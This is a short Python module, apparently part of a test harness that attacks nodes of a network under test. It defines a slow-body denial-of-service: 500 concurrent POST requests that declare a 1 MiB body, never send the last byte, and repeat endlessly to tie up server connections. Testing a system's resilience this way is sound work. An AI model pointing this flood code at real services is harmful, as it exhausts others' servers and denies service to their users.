"""Bodies of which the last byte never comes."""

import asyncio
import itertools
from contextlib import suppress

from network import NetworkSeen

from attacks.crowd import crowding
from attacks.flood import Attack, say_ready

_AT_ONCE = 500
_HOLD_S = 5.0
_BYTES = 1 << 20
_UNFINISHED = (
    b"POST /v1/events HTTP/1.1\r\nHost: node\r\nContent-Type: application/msgpack\r\n"
    b"Content-Length: %d\r\n\r\n" % _BYTES + bytes(_BYTES - 1)
)


async def _attack(network: NetworkSeen) -> None:
    say_ready()
    async with asyncio.TaskGroup() as tasks:
        for _, node in zip(range(_AT_ONCE), itertools.cycle(network.nodes), strict=False):
            tasks.create_task(_send(node.api))


async def _send(url: str) -> None:
    loop = asyncio.get_running_loop()
    while True:
        async with crowding(url, 1, _UNFINISHED, reads=True) as crowd:
            # To its end, whatever the node answers.
            with suppress(ConnectionError):
                while await loop.sock_recv(crowd.opened[0], 1024):
                    pass
        await asyncio.sleep(_HOLD_S)


ATTACK = Attack(
    number=3,
    summary=f"{_AT_ONCE} requests of {_BYTES} bytes whose last byte never comes",
    run=_attack,
)
